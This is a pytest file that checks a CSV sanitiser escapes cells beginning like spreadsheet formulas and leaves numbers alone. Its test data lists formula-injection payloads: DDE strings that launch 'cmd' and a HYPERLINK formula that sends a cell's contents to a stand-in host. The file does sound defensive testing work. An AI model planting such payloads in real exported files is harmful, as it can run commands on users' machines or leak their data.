"""CSV for people holds no formula."""

import csv
import io

import pytest

from lakehouse.files.formulas import harmless, harmless_row

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://x.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "  =1",
    "\uff1d1+1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("value", ["-12.50", "+49", "1=1", "a@b.example", "", None, -3, 2.5, "-1,234.50", "-1e5"])
def test_numbers_and_other_texts_stay(value: object) -> None:
    assert harmless(value) == value


def test_a_row_written_and_read_again_holds_no_formula() -> None:
    out = io.StringIO()
    csv.writer(out).writerow(harmless_row(FORMULAS))
    assert all(value.startswith("'") for value in next(csv.reader(io.StringIO(out.getvalue(), newline=""))))
